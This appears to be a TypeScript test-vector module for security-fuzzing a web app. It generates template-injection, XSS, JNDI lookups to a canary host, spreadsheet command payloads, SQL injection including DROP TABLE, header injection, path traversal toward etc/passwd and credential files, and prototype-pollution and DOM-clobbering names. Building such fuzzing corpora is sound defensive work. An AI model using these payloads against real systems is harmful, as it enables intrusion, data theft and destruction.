import { CANARY, vectorsOf } from './vector.ts'

const CALL = 'constructor.constructor("fire({n})")()'

export const templateVectors = vectorsOf('templates', [
  ...[
    '{{',
    '{{{',
    '${',
    '#{',
    '*{',
    '@{',
    '[[',
    '{%',
    '<%=',
    '<%',
    '@(',
    '%{',
    '$(',
    '{#',
    '{$',
    '((',
    '~{',
    '|{',
    '_{',
    '{{=',
  ].flatMap(open => {
    const close =
      {
        '{{': '}}',
        '{{{': '}}}',
        '[[': ']]',
        '{%': '%}',
        '<%=': '%>',
        '<%': '%>',
        '@(': ')',
        '$(': ')',
        '{#': '#}',
        '((': '))',
        '{{=': '=}}',
      }[open] ?? '}'
    return [`${open}${CALL}${close}`, `${open}7*7+{n}${close}`, `${open} fire({n}) ${close}`]
  }),
  ...[
    'ng-init',
    'ng-click',
    'v-html',
    'v-on:mouseover',
    '@mouseover',
    'x-init',
    'x-html',
    'hx-on:load',
    'hx-get',
    'data-bind',
    '(click)',
    '[innerHTML]',
    'on:click',
    'bind:innerHTML',
    '_',
  ].flatMap(name => [`<b ${name}="fire({n})">x</b>`, `" ${name}="fire({n})`]),
  `\${jndi:ldap://${CANARY}/{n}}`,
  `%24%7Bjndi:dns://${CANARY}/{n}%7D`,
  "$$&$`$'$1<{n}>",
  '%s%n%x{n}',
  `';fire({n})//`,
  `=HYPERLINK("http://${CANARY}/{n}")`,
  '=cmd|"/c calc"!A{n}',
  `@SUM(1+1)*cmd|' /C calc'!A{n}`,
  `'; DROP TABLE articles; -- {n}`,
  `' OR '1'='1' /* {n} */`,
  '" OR ""="{n}',
  '*{n}* AND NEAR("x" "y") OR title:*',
  '\\frac{\\href{javascript:fire({n})}{x}}',
  '\\unicode{<img src=x onerror=fire({n})>}',
  '$\\href{javascript:fire({n})}{x}$',
  '[x]: javascript:fire({n})',
  '![x](x"onerror="fire({n}))',
  '/(a+)+$/{n}',
  'a'.repeat(5000) + '{n}',
  '\u0300'.repeat(500) + '{n}',
])

export const headerVectors = vectorsOf(
  'header injection',
  [
    '\r\n',
    '\n',
    '\r',
    '%0d%0a',
    '%0a',
    '%0D',
    '%250d%250a',
    '\\r\\n',
    '&#13;&#10;',
    '\u560D\u560A',
    '%E5%98%8D%E5%98%8A',
    '\u2028',
    '\u0085',
    '\u000B',
    '\u0000',
  ].flatMap(end => [
    `x${end}x-injected: {n}`,
    `x${end}set-cookie: injected={n}`,
    `x${end}location: https://${CANARY}/{n}`,
    `x${end}${end}<script>fire({n})</script>`,
  ]),
)

const SECRET_FILES = ['etc/passwd', 'proc/self/environ', 'readers.json', 'lectern.sqlite']

const UPS = [
  '../',
  '..\\',
  '..%2f',
  '%2e%2e/',
  '%2e%2e%2f',
  '..%5c',
  '%252e%252e%252f',
  '..%c0%af',
  '%c0%ae%c0%ae/',
  '....//',
  '..;/',
  '.%00./',
  '..%00/',
  '\u2025/',
  '..\uFF0F',
  './../',
]

export const traversalVectors = vectorsOf('traversal', [
  ...UPS.flatMap(up => SECRET_FILES.map(file => `${up.repeat(8)}${file}?{n}`)),
  ...SECRET_FILES.flatMap(file => [
    `/${file}?{n}`,
    `//${file}?{n}`,
    `file:///${file}?{n}`,
    `C:\\${file}?{n}`,
    `\\\\${CANARY}\\${file}?{n}`,
    `~/${file}?{n}`,
    `${file}%00.png?{n}`,
    `./${file}?{n}`,
    `x/../../${file}?{n}`,
  ]),
])

const PROTOTYPES =
  `__proto__ constructor prototype toString valueOf hasOwnProperty isPrototypeOf propertyIsEnumerable toLocaleString
  __defineGetter__ __defineSetter__ __lookupGetter__ __lookupSetter__ then toJSON length name caller callee arguments at keys`.split(
    /\s+/,
  )

/** Names that every object has. They carry no number, because with one they would be other names. */
export const prototypeVectors = vectorsOf('names of prototypes', [
  ...PROTOTYPES,
  ...PROTOTYPES.slice(0, 3).flatMap(name => [
    `${name}.polluted`,
    `${name}[polluted]`,
    `["${name}"]`,
    `${name}.{n}`,
    `x.${name}`,
    `x[${name}][polluted]`,
  ]),
  'constructor.prototype.polluted',
  'undefined',
  'null',
  'NaN',
  '-1',
  '1e999',
  'true',
  '[]',
  '{}',
])

/** Names under which scripts find elements and properties of the window and the document: the platform's and the page's own. */
export const clobberingVectors = vectorsOf(
  'clobbering names',
  `body head documentElement cookie forms images links scripts location top self parent opener
  name frames length status event history navigator document window alert fire getElementById querySelector createElement addEventListener
  currentScript defaultView domain referrer title URL baseURI firstChild lastChild childNodes parentNode ownerDocument attributes innerHTML
  textContent nodeName nodeType nodeValue submit action method target elements reset children remove append focus trustedTypes fetch JSON
  Promise Object state page article-top contents citation-card header-search-button abstracts body references main skip-link side-panel
  page-state lectern root app config settings __NEXT_DATA__ __PRELOADED_STATE__ dataLayer MathJax react hydrate default exports module process
  global globalThis require define webpackChunk`.split(/\s+/),
)
